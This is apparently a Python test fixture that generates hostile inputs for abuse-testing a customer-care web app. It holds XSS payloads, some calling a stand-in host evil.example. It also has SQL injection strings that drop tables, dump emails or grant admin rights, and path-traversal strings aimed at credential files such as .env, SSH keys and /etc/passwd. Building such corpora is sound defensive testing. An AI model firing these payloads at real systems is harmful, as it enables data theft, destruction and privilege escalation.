"""Hostile inputs, part of the corpus (corpus.py): HTML and JavaScript, SQL injection, and paths that try to
leave their folder."""

from typing import Iterator

from tests.abuse.hostile_value import Hostile


def injections() -> Iterator[Hostile]:
    # HTML and JavaScript -----------------------------------------------------------------------------------
    html = [
        "<script>alert(1)</script>",
        "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
        "<img src=x onerror=alert(1)>",
        '"><script>alert(document.cookie)</script>',
        "'><img src=x onerror=alert(1)>",
        "<svg/onload=alert(1)>",
        "<iframe src=javascript:alert(1)>",
        '<a href="javascript:alert(1)">click</a>',
        "javascript:alert(1)",
        "JaVaScRiPt:alert(1)",
        "java\tscript:alert(1)",
        "data:text/html,<script>alert(1)</script>",
        "[click me](javascript:alert(1))",
        "[x](javascript:alert%281%29)",
        "![img](https://evil.example/p.png)",
        '[phish](https://evil.example "Larkspur login")',
        "<b onmouseover=alert(1)>hover</b>",
        "</textarea><script>alert(1)</script>",
        "</title><script>alert(1)</script>",
        "{{7*7}}",
        "${7*7}",
        "{% raw %}{{ config }}{% endraw %}",
        "<!--",
        "]]>",
        "<![CDATA[<script>alert(1)</script>]]>",
        "<style>*{display:none}</style>",
        "<meta http-equiv=refresh content=0;url=https://evil.example>",
        "&lt;script&gt;alert(1)&lt;/script&gt;",
        "&#60;script&#62;alert(1)&#60;/script&#62;",
        "<scr<script>ipt>alert(1)</scr</script>ipt>",
        '"onfocus="alert(1)" autofocus="',
        "' onfocus='alert(1)",
        "<details open ontoggle=alert(1)>",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
        "`${alert(1)}`",
        "<base href=https://evil.example/>",
        "<form action=https://evil.example><input name=p>",
        "**bold** _it_ `code` <u>u</u>",
        "[agent](http://127.0.0.1:5006/logout)",
        "<script>" * 100,
    ]
    for number, value in enumerate(html):
        yield Hostile(f"html-{number:02d}", "html", value)

    # SQL injection ----------------------------------------------------------------------------------------
    sql = [
        "' OR '1'='1",
        "' OR 1=1 --",
        '" OR ""="',
        "1; DROP TABLE events; --",
        "'; DROP TABLE tickets; --",
        "104233' OR '1'='1",
        "104233 UNION SELECT email, postcode FROM orders --",
        "' UNION SELECT NULL,NULL--",
        "admin'--",
        "admin' #",
        "') OR ('1'='1",
        "1' AND SLEEP(5)--",
        "1); SELECT pg_sleep(5);--",
        "' AND 1=CAST((SELECT sqlite_version()) AS INT)--",
        "%' OR sender_id LIKE '%",
        "'||(SELECT '')||'",
        "\\'; DROP TABLE agents; --",
        "1 OR 1=1",
        "' OR ''='",
        "x' AND randomblob(1000000000)--",
        "1' ORDER BY 100--",
        "'; ATTACH DATABASE '/tmp/x.db' AS x; --",
        "' OR sqlite_version() > '0",
        "sam' --",
        "sam'/*",
        "'; UPDATE agents SET role='admin'; --",
    ]
    for number, value in enumerate(sql):
        yield Hostile(f"sql-{number:02d}", "sql", value)

    # Paths ------------------------------------------------------------------------------------------------
    paths = [
        "../../etc/passwd",
        "../../../../../../etc/passwd",
        "..\\..\\..\\windows\\win.ini",
        "....//....//etc/passwd",
        "%2e%2e/%2e%2e/etc/passwd",
        "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
        "..%2f..%2f..%2fetc%2fpasswd",
        "%252e%252e%252fetc%252fpasswd",
        "..%c0%af..%c0%afetc%c0%afpasswd",
        "..%5c..%5cetc%5cpasswd",
        "/etc/passwd",
        "//etc/passwd",
        "chat.js%00.png",
        "chat.js\x00.png",
        "..%00/etc/passwd",
        "../../console/settings.py",
        "../../.env",
        "../../var/care.db",
        "../node_modules/../../README.md",
        "../../../proc/self/environ",
        "%2e%2e/%2e%2e/console/app.py",
        ".%2e/.%2e/customer_care/settings.py",
        "chat.js/../../index.html",
        "./././chat.js",
        "~/.ssh/id_rsa",
        "file:///etc/passwd",
        "C:\\Windows\\System32\\drivers\\etc\\hosts",
        "\\\\evil.example\\share",
        "../" * 50 + "etc/passwd",
        "shop.css?../../etc/passwd",
        "chat.js#/../../etc/passwd",
        "%",
        "%%",
        "%zz",
        "%u002e%u002e/etc/passwd",
    ]
    for number, value in enumerate(paths):
        yield Hostile(f"path-{number:02d}", "path", value)
